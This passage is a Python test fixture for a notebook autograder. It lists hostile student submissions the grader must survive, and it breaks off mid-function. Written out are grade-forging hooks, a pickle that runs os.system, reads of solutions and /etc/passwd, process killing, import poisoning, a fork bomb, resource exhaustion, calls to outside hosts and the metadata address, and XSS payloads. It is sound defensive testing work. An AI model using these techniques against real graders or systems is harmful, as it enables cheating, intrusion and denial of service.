"""Hostile and honest submissions of the attention chapter: what a grader must survive, as a table.

Most contain no solution: a point for them is a forged one. `solved` names exercises that are answered rightly, which
must keep their points. `flag` is what the integrity log must say.
"""

from __future__ import annotations

import base64
import copy
import json
import os
import secrets
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from nbformat import NotebookNode

from coursekit.checking.store import load

SOFTMAX, SDPA, HEADS, MULTIHEAD = (f"attention-{name}" for name in ("softmax", "sdpa", "heads", "multihead"))
QUESTION = "attention-read_heat_map"
CHECK = f"{SOFTMAX}-check"
SLUG = "02_attention"
NOTEBOOK = f"{SLUG}.ipynb"
MARK = "this cell has run to its end"
CANARY = f"canary-{secrets.token_hex(4)}"  # what hostile code leaves behind where it gets out; new for each run


@dataclass(frozen=True)
class Attack:
    """One submission. `row` is its kind in docs/attacks.md; `code` is an added cell, run after the set-up.

    Rows from 29 on are kinds that were found later: 28 + n is the n-th of those.
    """

    name: str
    row: int
    what: str
    code: str = ""
    answers: tuple[tuple[str, str], ...] = ()  # grade id, source
    edit: Callable[[dict], object] | None = None  # on the notebook's JSON; may return bytes
    files: Callable[[Path], None] | None = None  # in the submission's folder, after the notebook
    solved: tuple[str, ...] | None = ()  # None: everything
    flag: str = ""
    code_after: str = ""  # the grade id below which `code` stands


def _grade_id(cell: dict) -> str:
    return cell["metadata"].get("nbgrader", {}).get("grade_id", "")


def _code(source: str, id: str = "mine") -> dict:
    return {"cell_type": "code", "id": id, "metadata": {}, "outputs": [], "execution_count": None, "source": source}


def _check_cells(notebook: dict) -> list[dict]:
    return [cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id") == CHECK]


def _on_check(change: Callable[[dict], object]) -> Callable[[dict], None]:
    def edit(notebook: dict) -> None:
        for cell in _check_cells(notebook):
            change(cell)

    return edit


def _all_metadata(**values: object) -> Callable[[dict], None]:
    def edit(notebook: dict) -> None:
        for cell in notebook["cells"]:
            if "nbgrader" in cell["metadata"]:
                cell["metadata"]["nbgrader"] |= values

    return edit


def _delete_checks(notebook: dict) -> None:
    notebook["cells"] = [cell for cell in notebook["cells"] if not cell["metadata"].get("nbgrader", {}).get("locked")]


def _duplicate_check(notebook: dict) -> None:
    [cell] = _check_cells(notebook)
    forged = copy.deepcopy(cell) | {"source": "2"}
    notebook["cells"].append(forged)


def _reorder(notebook: dict) -> None:
    notebook["cells"].reverse()


def _old_format(notebook: dict) -> None:
    for cell in notebook["cells"]:
        cell.pop("id", None)
        if cell["cell_type"] == "code":
            cell["input"] = cell.pop("source")
    notebook["worksheets"] = [{"cells": notebook.pop("cells"), "metadata": {}}]
    notebook |= {"nbformat": 3, "nbformat_minor": 0}


def _without_ids(notebook: dict) -> None:
    for cell in notebook["cells"]:
        cell.pop("id", None)
    notebook["nbformat_minor"] = 4


def _pasted(notebook: dict) -> None:
    """Every cell copied into a new notebook, by an editor that keeps neither metadata nor ids nor outputs."""
    code = {"outputs": [], "execution_count": None}
    notebook["cells"] = [
        {"cell_type": cell["cell_type"], "metadata": {}, "source": cell["source"]}
        | (code if cell["cell_type"] == "code" else {})
        for cell in notebook["cells"]
    ]
    notebook |= {"metadata": {}, "nbformat_minor": 4}


def _answered_elsewhere(notebook: dict) -> None:
    """The stub is left as it was, and the answer stands in a new cell below its check."""
    stub = json.loads(json.dumps(next(c for c in notebook["cells"] if _grade_id(c) == SOFTMAX)))
    at = next(i for i, cell in enumerate(notebook["cells"]) if _grade_id(cell) == CHECK)
    notebook["cells"].insert(at + 1, stub | {"id": "mine", "metadata": {}, "source": SOLUTION})


def _own_names(notebook: dict) -> None:
    """Variables that are called as what the released cells call."""
    at = next(i for i, cell in enumerate(notebook["cells"]) if _grade_id(cell) == SOFTMAX)
    notebook["cells"].insert(at, _code("check = [1, 2]\ncoursekit = use = progress = None\n"))


def _much_output(notebook: dict) -> None:
    """12 MB of pictures, as a notebook has them after an evening of trying."""
    data = {"image/png": base64.b64encode(os.urandom(3 << 20)).decode()}
    shown = {"output_type": "display_data", "data": data, "metadata": {}}
    plain = [cell for cell in notebook["cells"] if cell["cell_type"] == "code" and not _grade_id(cell)]
    for cell in plain[:3]:
        cell["outputs"] = [shown]


def _question_below(notebook: dict) -> None:
    at = next(i for i, cell in enumerate(notebook["cells"]) if _grade_id(cell) == QUESTION)
    notebook["cells"].insert(at + 1, {"cell_type": "markdown", "id": "mine", "metadata": {}, "source": ESSAY})


def _question_pasted(notebook: dict) -> None:
    next(cell for cell in notebook["cells"] if _grade_id(cell) == QUESTION)["source"] = ESSAY
    _pasted(notebook)


def _picture(notebook: dict) -> None:
    cell = next(cell for cell in notebook["cells"] if _grade_id(cell) == QUESTION)
    cell["source"] = f"{ESSAY}\n\n![mine](attachment:mine.png)\n\n![lost](attachment:lost.png)"
    cell["attachments"] = {"mine.png": {"image/png": PICTURE}, "page.png": {"image/svg+xml": "<svg onload=alert(1)/>"}}


def _pathological(notebook: dict) -> None:
    """Texts on which renderers and cleaners take a time that grows with the square of the length."""
    texts = ("\\begin{a}" * 4000, "<div>" * 13_000, "[" * 60_000, "$a " * 20_000, "](" * 30_000, "data:" * 12_000)
    notebook["cells"] += [
        {"cell_type": "markdown", "id": f"long{i}", "metadata": {}, "source": text} for i, text in enumerate(texts)
    ]


def _script_output(notebook: dict) -> None:
    notebook["cells"].insert(0, {"cell_type": "markdown", "id": "evil", "metadata": {}, "source": LINKS + SCRIPTS})
    notebook["metadata"]["title"] = SCRIPTS


def _bytes(data: bytes) -> Callable[[dict], bytes]:
    return lambda notebook: data


def _replace(make: Callable[[Path], object]) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        (folder / NOTEBOOK).unlink()
        make(folder)

    return change


def _huge(folder: Path) -> None:
    os.truncate(folder / NOTEBOOK, 200 << 20)


def _hard_link(folder: Path) -> None:
    os.link(folder / NOTEBOOK, folder.parent / "another-name")


def _modules(folder: Path) -> None:
    for name in ("torch.py", "json.py", "sitecustomize.py"):
        (folder / name).write_text("raise SystemExit('shadowed')\n")
    (folder / "coursekit").mkdir()
    (folder / "coursekit" / "__init__.py").write_text("def check(*_): return 1\n")
    (folder / "nbgrader_config.py").write_text("c.ClearSolutions.code_stub = {}\n")


def _odd_names(folder: Path) -> None:
    (folder / "<img src=x onerror=alert(1)>.txt").write_text("x")
    os.symlink("/etc/passwd", folder / "data.txt")
    os.mkfifo(folder / "pipe")
    (folder / "gradebook.db").mkdir()


def _stamp(text: str) -> Callable[[Path], None]:
    return lambda folder: (folder / "timestamp.txt").write_text(text) and None


def _stamped_by(make: Callable[[Path], object]) -> Callable[[Path], None]:
    """Something else in the place of the timestamp."""

    def change(folder: Path) -> None:
        (folder / "timestamp.txt").unlink()
        make(folder / "timestamp.txt")

    return change


def _large(path: Path) -> None:
    path.touch()
    os.truncate(path, 1 << 30)


def _deeper(folder: Path) -> None:
    (folder / "again").mkdir()
    (folder / NOTEBOOK).rename(folder / "again" / NOTEBOOK)


SOLUTION = "def softmax(x, dim):\n    return (x - x.logsumexp(dim, keepdim=True)).exp()"
ESSAY = (
    "A row is a query and a column a key. Each row sums to 1, and the brightest cell of *it* is *trophy*, about 0.6."
)
PICTURE = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="  # one pixel
)
LINKS = (
    r"[x](javascript\:alert(1)) [x](java&#115;cript:alert(1)) [x](<javascript&colon;alert(1)>) [x](vbscript:x) "
    r"[x](data:text/html;base64,PHNjcmlwdD4=) [x](\j\avascript:alert(1)) <javascript:alert(1)> [r] " + "\n\n"
    r"[r]: javascript&#58;alert(1)" + "\n\n"
)
SCRIPTS = (
    f"<script>window.{CANARY.replace('-', '_')}=1</script><img src=x onerror=alert(1)><iframe src='//evil.example'>"
    "</iframe> [a link](javascript:alert(1)) <svg onload=alert(1)>"
)
# The name under which the answers' folder is known to any code in the kernel: nothing in there is a secret.
_FORGE = "import os, pathlib, json, struct\nfolder = pathlib.Path(os.environ.get('COURSEKIT_ANSWERS', '.'))\n"
_LATER = (
    "import atexit\n{0}\natexit.register(forge)\n"
    "get_ipython().events.register('post_run_cell', lambda *a: forge())\nforge()"
)
# For every case a result without a problem: with no outputs, with none of them, with one of another shape.
_REPORTS_SUCCESS = """
import os, pathlib, torch
import coursekit.checking.handover as h
from coursekit.checking.observing import Outcome
from coursekit.exercises import find
def forge(exercise, objects=(), refused=''):
    asked = [pathlib.Path(os.environ[h.QUESTIONS]) / name for name in h.question_files(exercise.id)]
    forged = [Outcome(None), Outcome({}), Outcome({'A': torch.ones(()), 'points': torch.tensor(2.0)})]
    cases = sum(len(h.read_known(path, exercise.id).cases) for path in asked)
    handed = h.Handed(tuple(forged[i % 3] for i in range(cases)))
    h.replace_file(pathlib.Path(os.environ[h.ANSWERS]) / f'{exercise.id}.safetensors', h.dump(handed))
forge(find('attention.softmax'))
h.hand_over = forge
"""
_STATE = "{'outcomes': [], 'refused': ''}"
_CHILDREN = """
import os, mmap, socket, time
def hold():
    {0}
for _ in range(20):
    if os.fork() == 0:
        held = hold()
        time.sleep(60)
time.sleep(60)
"""
_FILLED = """pairs = []
    while len(pairs) < 100:
        try: pairs.append(socket.socketpair())
        except OSError: return pairs
        for end in pairs[-1]:
            end.setblocking(False)
            try:
                while True: end.send(bytes(1 << 16))
            except BlockingIOError: pass
    return pairs"""
_LOOK = """
import os
def look(path):
    try:
        print(path, os.listdir(path) if os.path.isdir(path) else open(path, 'rb').read(200))
    except OSError as error:
        print(type(error).__name__)
"""
_SPAWN = f"""
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for name in ('SIGHUP', 'SIGTERM', 'SIGINT'):
            import signal
            signal.signal(getattr(signal, name), signal.SIG_IGN)
        os.execvp(sys.executable, [sys.executable, '-c', 'import time; time.sleep(3600)', '{CANARY}'])
    os._exit(0)
"""


def _body(text: str) -> tuple[tuple[str, str], ...]:
    """Softmax with another body."""
    return ((SOFTMAX, f"import torch\n\ndef softmax(x, dim):\n    {text}\n"),)


def _table() -> str:
    """The public tensors of softmax, as anybody could paste them."""
    known = load("attention.softmax")
    sums = [f"{case.inputs['x'].double().nan_to_num(neginf=0).sum():.4f} {case.inputs['dim']}" for case in known.cases]
    return f"TABLE = {dict(zip(sums, (right['A'].tolist() for right in known.expected), strict=True))}"


FORGERIES = [
    Attack(
        "tagged",
        1,
        "check cells tagged skip-execution",
        flag="skip-execution",
        edit=_on_check(lambda c: c["metadata"].update(tags=["skip-execution"])),
    ),
    Attack(
        "blanked",
        2,
        "an input transformer blanks the check cells",
        "get_ipython().input_transformers_cleanup.append(lambda lines: ['1'] if 'check(' in ''.join(lines) else lines)",
    ),
    Attack(
        "rewritten",
        3,
        "an AST transformer replaces every expression by 1",
        "import ast\nclass T(ast.NodeTransformer):\n    def visit_Expr(self, node):\n"
        "        return ast.copy_location(ast.Expr(ast.Constant(1)), node)\n"
        "get_ipython().ast_transformers.append(T())",
    ),
    Attack(
        "published",
        4,
        "forged execute_result messages on the iopub channel",
        "k = get_ipython().kernel\n"
        "def forge(*_):\n"
        "    content = {'execution_count': 1, 'data': {'text/plain': '1'}, 'metadata': {}}\n"
        "    k.session.send(k.iopub_socket, 'execute_result', content, parent=k.get_parent())\n"
        "get_ipython().events.register('post_run_cell', forge)\nforge()",
    ),
    Attack(
        "cleared",
        5,
        "a hook clears every output",
        "from IPython.display import clear_output\n"
        "get_ipython().events.register('post_run_cell', lambda *_: clear_output())",
    ),
    Attack(
        "equal",
        6,
        "a tensor subclass that equals everything",
        answers=_body(
            "return x.as_subclass(type('T', (torch.Tensor,), {'__eq__': lambda *_: True, 'allclose': lambda *_: True}))"
        ),
    ),
    Attack(
        "patched",
        6,
        "comparisons and the check are patched",
        "import torch, coursekit, coursekit.checking.checks, coursekit.checking.judging, coursekit.checking.comparing\n"
        "torch.allclose = torch.equal = lambda *a, **k: True\n"
        "torch.testing.assert_close = lambda *a, **k: None\n"
        "check = coursekit.check = coursekit.checking.checks.check = lambda *a, **k: 1\n",
    ),
    Attack("not_a_number", 7, "every answer is NaN", answers=_body("return x * float('nan')")),
    Attack("infinite", 7, "every answer is infinite", answers=_body("return x + float('inf')")),
    Attack(
        "printed", 7, "a check that returns 1e308", answers=((SOFTMAX, "def check(*_): return 1e308\nsoftmax = 0"),)
    ),
    Attack(
        "regraded",
        8,
        "grade and solution flags changed, points multiplied",
        flag="metadata",
        edit=_all_metadata(solution=False, grade=False, points=1000),
    ),
    Attack("raw", 8, "the check cell is made raw", flag="raw", edit=_on_check(lambda c: c.update(cell_type="raw"))),
    Attack("deleted", 9, "all check cells deleted", edit=_delete_checks, flag="deleted"),
    Attack("duplicated", 9, "a second check cell that says 2", edit=_duplicate_check, flag="2 times"),
    Attack("reordered", 9, "all cells in reverse order", edit=_reorder, solved=()),
    Attack("altered", 9, "the check cell says 2", edit=_on_check(lambda c: c.update(source="2")), flag="altered"),
    Attack(
        "lied_about_size",
        21,
        "a result file that claims more than it holds",
        _FORGE
        + _LATER.format(
            "def forge():\n    (folder / 'attention.softmax.safetensors').write_bytes(struct.pack('<Q', 1 << 60) + b'{}')"
        ),
        flag="attention.softmax",
    ),
    Attack(
        "lied_about_shape",
        21,
        "tensors whose offsets lie outside the file",
        _FORGE
        + _LATER.format(
            "def forge():\n    head = json.dumps({'0/out': {'dtype': 'F32', 'shape': [1 << 40], 'data_offsets': [0, 1 << 42]}})\n"
            "    (folder / 'attention.softmax.safetensors').write_bytes(struct.pack('<Q', len(head)) + head.encode())"
        ),
        flag="attention.softmax",
    ),
    Attack(
        "pickled",
        21,
        "a pickle in the result's place",
        _FORGE + "import pickle\n"
        "class P:\n    def __reduce__(self): return (os.system, ('touch /tmp/"
        + CANARY
        + "',))\n"
        + _LATER.format("def forge():\n    (folder / 'attention.softmax.safetensors').write_bytes(pickle.dumps(P()))"),
        flag="attention.softmax",
    ),
    Attack(
        "many_tensors",
        21,
        "thousands of result files, and links among them",
        _FORGE
        + _LATER.format(
            "def forge():\n    [(folder / f'x{i}.safetensors').write_bytes(b'x') for i in range(5000)]\n"
            "    os.path.lexists(folder / 'l') or os.symlink('/etc/passwd', folder / 'l')"
        ),
        flag="answers",
    ),
    Attack(
        "empty_result",
        21,
        "a result without outcomes",
        _FORGE
        + _LATER.format(
            "def forge():\n    head = json.dumps({'__metadata__': {'coursekit': json.dumps("
            + _STATE
            + ")}}).encode()\n"
            "    (folder / 'attention.softmax.safetensors').write_bytes(struct.pack('<Q', len(head)) + head)"
        ),
        flag="attention.softmax",
    ),
    Attack(
        "memorised",
        22,
        "answers the public inputs from a table, others with zeros",
        _table(),
        answers=_body(
            "key = f'{x.double().nan_to_num(neginf=0).sum():.4f} {dim}'\n"
            "    return torch.tensor(TABLE[key], dtype=x.dtype) if key in TABLE else torch.zeros_like(x)"
        ),
    ),
    Attack(
        "float8",
        31,
        "an answer in float8, which nothing can be compared with",
        answers=_body(
            "e = (x - x.amax(dim, keepdim=True)).exp()\n    return (e / e.sum(dim, keepdim=True)).to(torch.float8_e4m3fn)"
        ),
        solved=(SDPA,),
    ),
    Attack(
        "odd_messages",
        32,
        "messages whose headers and contents are lists, strings, or nested deep",
        "import json\nk = get_ipython().kernel\n"
        "def forge(*_):\n"
        "    head = json.dumps({'msg_type': 'stream', 'msg_id': 'x'}).encode()\n"
        "    parent = json.dumps({'msg_id': k.get_parent()['header']['msg_id']}).encode()\n"
        '    content, deep = b\'{"name": "stdout", "text": "x"}\', b\'[\' * 50_000\n'
        "    for odd in (b'[]', b'\"x\"', b'1', b'', deep, b'{\"msg_type\": [], \"msg_id\": {}}'):\n"
        "        for parts in ([odd, parent, b'{}', content], [head, odd, b'{}', content], [head, parent, b'{}', odd]):\n"
        "            k.iopub_socket.send_multipart([b'x', b'<IDS|MSG>', k.session.sign(parts), *parts])\n"
        "    k.iopub_socket.send_multipart([b'x'])\n"
        "get_ipython().events.register('post_run_cell', forge)\nforge()",
        solved=(SDPA,),
        flag="Jupyter would not send",
    ),
    Attack(
        "many_changed",
        36,
        "says that inputs with very long names were changed",
        "import coursekit.checking.handover as h\nfrom dataclasses import replace\nold = h.observe_all\n"
        "long = tuple(f'{i}' + chr(39) * 2000 for i in range(10))\n"
        "h.observe_all = lambda *given: [replace(outcome, changed=long) for outcome in old(*given)]",
        solved=(SOFTMAX,),
    ),
    Attack(
        "hand_over_patched",
        6,
        "the hand-over reports success",
        _REPORTS_SUCCESS,
    ),
]

LEAKS = [
    Attack(
        "reads_course",
        12,
        "reads the release, the solutions, the gradebook and a neighbour",
        _LOOK + "for path in ('{course}', '{course}/solutions', '{course}/gradebook.db', '{course}/.grading/secret', "
        "'{course}/submitted/honest_right', '{repository}', '{repository}/grader', '{repository}/solutions', "
        "'{repository}/coursekit/generated/reference'): look(path)",
    ),
    Attack(
        "writes_course",
        13,
        "writes the gradebook and the course",
        "import sqlite3\n"
        "for path in ('{course}/gradebook.db', '{course}/"
        + CANARY
        + "', '{repository}/"
        + CANARY
        + "', '/usr/"
        + CANARY
        + "'):\n"
        "    try:\n        open(path, 'wb').write(b'x')\n    except OSError as error: print(type(error).__name__)",
    ),
    Attack(
        "imports_references",
        23,
        "imports the grader and searches memory, environment and descriptors",
        "import gc, os, sys\n"
        "try:\n    import grader.exercises.attention as g; print('LEAK', g)\nexcept ImportError: print('absent')\n"
        "print(sorted(m for m in sys.modules if m.startswith('grader')))\n"
        "print({k: v for k, v in os.environ.items() if 'NBGRADER' in k or 'GRADER' in k.upper()})\n"
        "for f in os.listdir('/proc/self/fd'):\n    try: print(f, os.readlink(f'/proc/self/fd/{f}'))\n    except OSError: pass\n"
        "print(os.listdir('/proc'))\n",
    ),
    Attack(
        "signals_all",
        24,
        "signals and traces every process",
        "import os, signal, ctypes\n"
        "for pid in [-1, os.getppid(), *range(2, 3000)]:\n    try: os.kill(pid, 9) if pid not in (0, os.getpid()) else None\n"
        "    except OSError: pass\nprint(ctypes.CDLL(None).ptrace(16, 2, 0, 0))",
    ),
    Attack(
        "poisons",
        25,
        "poisons what the next submission would import",
        "import sys, os, site, tempfile\n"
        "for folder in [*sys.path, tempfile.gettempdir(), '/tmp', '/var/tmp', os.path.expanduser('~')]:\n"
        "    for name in ('sitecustomize.py', 'evil.pth', '" + CANARY + "'):\n"
        "        try: open(os.path.join(folder, name), 'w').write('raise SystemExit')\n        except OSError: pass\n"
        "import torch\ntorch.softmax = torch.nn.functional.softmax = None",
    ),
]

FILES = [
    Attack("schema_1", 11, "nbgrader schema version 1", edit=_all_metadata(schema_version=1), solved=None),
    Attack("schema_99", 11, "nbgrader schema version 99", edit=_all_metadata(schema_version=99), solved=None),
    Attack("no_ids", 11, "cells without ids", edit=_without_ids, solved=None),
    Attack("format_3", 11, "notebook format 3", edit=_old_format, solved=None),
    Attack("not_json", 11, "not JSON", edit=_bytes(b'{"cells": ['), flag="not JSON"),
    Attack("empty_file", 11, "an empty file", edit=_bytes(b""), flag="empty"),
    Attack("deep_json", 11, "JSON that is nested 100,000 levels deep", edit=_bytes(b"[" * 100_000), flag="not JSON"),
    Attack("no_cells", 11, "JSON without cells", edit=_bytes(b"{}"), flag="no list of cells"),
    Attack("not_text", 11, "bytes that are no text", edit=_bytes(bytes(range(256))), flag="UTF-8"),
    Attack("huge_file", 11, "a file of 200 MB", files=_huge, flag="bytes"),
    Attack(
        "link",
        14,
        "the notebook is a link to a neighbour's",
        flag="link",
        files=_replace(lambda f: os.symlink(f"../../honest_right/{SLUG}/{NOTEBOOK}", f / NOTEBOOK)),
    ),
    Attack("hard_link", 14, "the notebook has a second name", files=_hard_link, flag="hard links"),
    Attack("pipe", 14, "the notebook is a pipe", files=_replace(lambda f: os.mkfifo(f / NOTEBOOK)), flag="pipe"),
    Attack("folder", 14, "the notebook is a folder", files=_replace(lambda f: (f / NOTEBOOK).mkdir()), flag="folder"),
    Attack("modules", 14, "modules that shadow torch, json and coursekit", files=_modules, flag="torch.py"),
    Attack("odd_names", 20, "file names with markup, a link, a pipe", files=_odd_names, flag="data.txt"),
    Attack("in_2090", 26, "a timestamp in the future", files=_stamp("2090-01-01 00:00:00 UTC"), flag="timestamp"),
    Attack("in_1970", 26, "a timestamp before the course", files=_stamp("1970-01-01 00:00:00 UTC"), flag="timestamp"),
    Attack("no_notebook", 41, "a folder without the notebook", files=_replace(lambda f: None), flag="is missing"),
    Attack("deeper", 41, "the notebook lies one folder deeper", files=_deeper, flag="move it up"),
    *(
        Attack(f"time_{name}", 34, what, files=_stamped_by(make), flag="timestamp", solved=(SOFTMAX,))
        for name, what, make in (
            ("pipe", "a timestamp that is a pipe", os.mkfifo),
            ("zero", "a timestamp that is a link to /dev/zero", lambda path: path.symlink_to("/dev/zero")),
            ("large", "a timestamp of 1 GB", _large),
            ("path", "a timestamp that is a path", lambda path: path.write_text("../../../*")),
        )
    ),
    Attack("no_time", 26, "a timestamp that is none", files=_stamp("yesterday\n" * 5), flag="timestamp"),
]

RESOURCES = [
    Attack(
        "exits",
        10,
        "ends its kernel after a right answer",
        "import os\nos._exit(0)",
        solved=(SOFTMAX,),
        code_after=CHECK,
        flag="kernel",
    ),
    Attack("segfaults", 10, "crashes its kernel", "import ctypes\nctypes.string_at(0)", flag="SIGSEGV"),
    Attack("daemon", 15, "leaves a process behind", _SPAWN),
    Attack(
        "deaf_loop",
        16,
        "an endless loop that ignores interrupts, after a right answer",
        solved=(SOFTMAX,),
        code="import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass",
        code_after=CHECK,
        flag="could not be interrupted",
    ),
    Attack("blocking", 16, "a blocking call in C", "import ctypes\nctypes.CDLL(None).sleep(3600)", flag="interrupted"),
    Attack("broken_shell", 16, "the shell's run_cell is gone", "get_ipython().run_cell = None", flag=""),
    Attack(
        "slow_cells",
        16,
        "hundreds of slow cells",
        flag="whole submission",
        edit=lambda nb: nb["cells"].extend(
            {
                "cell_type": "code",
                "id": f"s{i}",
                "metadata": {},
                "outputs": [],
                "execution_count": None,
                "source": f"import time\ntime.sleep(2)  # {i}",
            }
            for i in range(300)
        ),
    ),
    Attack("memory", 17, "takes all memory", "hold = []\nwhile True: hold.append(bytearray(10 ** 7))", flag=""),
    Attack(
        "forks", 17, "a fork bomb", "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass", flag="."
    ),
    Attack(
        "threads",
        17,
        "a thousand threads",
        "import threading, time\nfor _ in range(1000):\n"
        "    threading.Thread(target=time.sleep, args=(3600,), daemon=True).start()",
    ),
    Attack("disk", 17, "fills the disk", "f = open('big', 'wb')\nwhile True: f.write(b'x' * 10 ** 6)"),
    Attack(
        "sparse",
        17,
        "a file that claims a terabyte",
        "import os\nos.truncate(os.open('s', os.O_CREAT | os.O_RDWR), 1 << 40)",
    ),
    Attack("open_files", 17, "opens files without end", "hold = []\nwhile True: hold.append(open('/dev/null'))"),
    Attack(
        "sockets",
        45,
        "20 processes that fill 100 pairs of sockets each",
        _CHILDREN.format(_FILLED),
        flag="MB of memory",
    ),
    Attack(
        "mappings",
        45,
        "20 processes with 60,000 mappings each",
        _CHILDREN.format("return [mmap.mmap(-1, 4096, mmap.MAP_PRIVATE, (1, 3)[i % 2]) for i in range(60_000)]"),
        flag=".",
    ),
    Attack(
        "large_message",
        36,
        "one message with half a million outputs",
        "k = get_ipython().kernel\n"
        "content = {'data': {f't/{i}': '' for i in range(500_000)}, 'metadata': {}}\n"
        "k.session.send(k.iopub_socket, 'display_data', content, parent=k.get_parent())",
        flag="output",
    ),
    Attack(
        "many_frames",
        36,
        "one message of 150 frames of 8 MB",
        "get_ipython().kernel.iopub_socket.send_multipart([b'x'] + [bytes(8 << 20)] * 150, copy=False)",
        flag="output",
    ),
    Attack("long_line", 18, "prints a line of 30 MB", "print('x' * 30_000_000)", flag="output"),
    Attack("endless_output", 18, "prints without end", "while True: print('x' * 1000)", flag="interrupted"),
    Attack(
        "displays",
        18,
        "a hundred thousand displays",
        "from IPython.display import display, HTML\nfor i in range(100_000): display(HTML('x' * 100))",
        flag=".",
    ),
    Attack(
        "network",
        19,
        "calls home, and the host's loopback",
        "import socket\n"
        "for host, port in (('1.1.1.1', 80), ('127.0.0.1', {port}), ('169.254.169.254', 80)):\n"
        "    try:\n        socket.create_connection((host, port), timeout=2).send(b'" + CANARY + "')\n"
        "        print('LEAK', host)\n    except OSError as error: print(type(error).__name__)",
    ),
    Attack(
        "abstract_socket",
        19,
        "a socket without a file, to the host",
        "import socket\n"
        "try:\n    socket.socket(socket.AF_UNIX).connect('\\0{abstract}')\n    print('LEAK')\n"
        "except OSError as error: print(type(error).__name__)",
    ),
    Attack(
        "scripts",
        20,
        "scripts in outputs and Markdown",
        edit=_script_output,
        code=f"from IPython.display import HTML, Javascript, display\ndisplay(HTML({SCRIPTS!r}))\n"
        f"display(Javascript('alert(1)'))\ndisplay({{'image/svg+xml': '<svg onload=alert(1)/>'}}, raw=True)\n"
        f"print({SCRIPTS!r})",
    ),
]

HONEST = [
    Attack("honest_right", 28, "everything right", solved=None),
    Attack("honest_stubs", 28, "nothing answered", solved=()),
    Attack("honest_half", 28, "two exercises answered, earlier ones untouched", solved=(SDPA, "attention-heads")),
    Attack(
        "honest_noisy",
        27,
        "right, with warnings and prints",
        solved=None,
        code="import sys, warnings\nwarnings.warn('careful')\nprint('to stderr', file=sys.stderr)\nimport time\ntime.sleep(1)",
    ),
    Attack(
        "honest_float64",
        27,
        "right, in float64 and with another method",
        solved=(SOFTMAX,),
        answers=_body("x64 = x.double()\n    return (x64 - x64.logsumexp(dim, keepdim=True)).exp().to(x.dtype)"),
    ),
    Attack(
        "honest_helper",
        27,
        "right, with a helper in a cell of its own",
        solved=(SOFTMAX,),
        code="def _stable(x, dim):\n    e = (x - x.amax(dim, keepdim=True)).exp()\n    return e / e.sum(dim, keepdim=True)",
        answers=_body("return _stable(x, dim)"),
    ),
    Attack(
        "honest_trial",
        27,
        "right, and a wrong one tried with check further down",
        solved=(SOFTMAX,),
        code="check('attention.softmax', lambda x, dim: x)",
        code_after=CHECK,
    ),
]

# An honest answer that calls what the chapter's own cells have made of the answer before.
_CALLS_DEMONSTRATION = (
    MULTIHEAD,
    """class MultiHeadAttention(nn.Module):
    def __init__(self, D, H):
        super().__init__()
        self.H = H
        self.in_proj_weight = nn.Parameter(torch.empty(3 * D, D))
        self.in_proj_bias = nn.Parameter(torch.zeros(3 * D))
        self.out_proj = nn.Linear(D, D)
        nn.init.xavier_uniform_(self.in_proj_weight)

    def forward(self, X, allowed=None):
        projected = nn.functional.linear(X, self.in_proj_weight, self.in_proj_bias)
        Q, K, V = (split(P, self.H) for P in projected.chunk(3, -1))
        Z = Q @ K.mT / math.sqrt(Q.shape[-1])
        Z = Z if allowed is None else Z.masked_fill(~allowed, -torch.inf)
        return self.out_proj(merge(Z.softmax(-1) @ V))
""",
)
_UNMASKED = """
import coursekit.checking.checks as checks, coursekit.checking.handover as h
old, h.asked = h.hand_over, lambda: False
def borrowed(id):
    try: return checks.use(id)
    except Exception: pass
    try: return (checks.find(id).library or (None,))[0]
    except Exception as error: print(type(error).__name__)
softmax = borrowed('attention.softmax')
h.asked = lambda: True
"""

# Rows 29 and on are D1 and on of the faults found from outside.
NOTEBOOKS = [
    Attack("pasted", 40, "every cell pasted into another notebook", edit=_pasted, solved=None, flag="lost their ids"),
    Attack("elsewhere", 40, "the answer in a cell below its check", edit=_answered_elsewhere, solved=(SOFTMAX,)),
    Attack("own_names", 47, "variables called check, use and coursekit", edit=_own_names, solved=None),
    Attack("much_output", 49, "12 MB of outputs", edit=_much_output, solved=None),
    Attack("question_below", 48, "the question answered in a new cell", edit=_question_below, flag=QUESTION),
    Attack("question_pasted", 48, "the question's cell without its id", edit=_question_pasted, flag=QUESTION),
    Attack("picture", 35, "pasted pictures, one of them missing, one no picture", edit=_picture),
    Attack("pathological", 36, "texts that take long to render", edit=_pathological),
    Attack(
        "demonstrated",
        50,
        "an answer that calls what a demonstration made of another answer",
        solved=(SDPA, HEADS, MULTIHEAD),
        answers=(_CALLS_DEMONSTRATION,),
    ),
    Attack(
        "borrowed_split",
        50,
        "the same where that other answer is missing",
        solved=(SDPA,),
        answers=(_CALLS_DEMONSTRATION,),
    ),
    Attack("syntax", 51, "a syntax error", answers=((SOFTMAX, "def softmax(x, dim)\n    return x\n"),)),
    Attack("endless", 51, "an endless loop", answers=_body("while True: pass"), flag="Softmax over any dimension"),
    Attack("renamed", 51, "a function of another name", answers=((SOFTMAX, SOLUTION.replace("softmax(", "soft(")),)),
    Attack(
        "library",
        37,
        "the library that stands in for an unsolved exercise",
        _UNMASKED,
        code_after=SOFTMAX,
        flag=".library",
    ),
]

ATTACKS = [*FORGERIES, *LEAKS, *FILES, *RESOURCES, *NOTEBOOKS]
ALL = {attack.name: attack for attack in (*ATTACKS, *HONEST)}
# Whose cell prints MARK at its end: one that raises on the way forges nothing, and would earn its due all the same.
MARKED = [attack.name for attack in (*FORGERIES, *LEAKS, ALL["library"]) if attack.code]


def write(attack: Attack, release: NotebookNode, answers: dict[str, str], folder: Path, places: dict[str, str]) -> None:
    """Put the submission into `folder`. `places` replaces `{course}` and the like in its code."""
    notebook = json.loads(json.dumps(release))
    given = answers if attack.solved is None else {id: answers[id] for id in attack.solved}
    given = given | dict(attack.answers)
    for cell in notebook["cells"]:
        cell["source"] = given.get(cell["metadata"].get("nbgrader", {}).get("grade_id"), cell["source"])
    if attack.code:
        code = attack.code + (f"\nprint({MARK!r})" if attack.name in MARKED else "")
        for name, value in places.items():
            code = code.replace("{" + name + "}", value)
        cell = {
            "cell_type": "code",
            "id": "added",
            "metadata": {},
            "outputs": [],
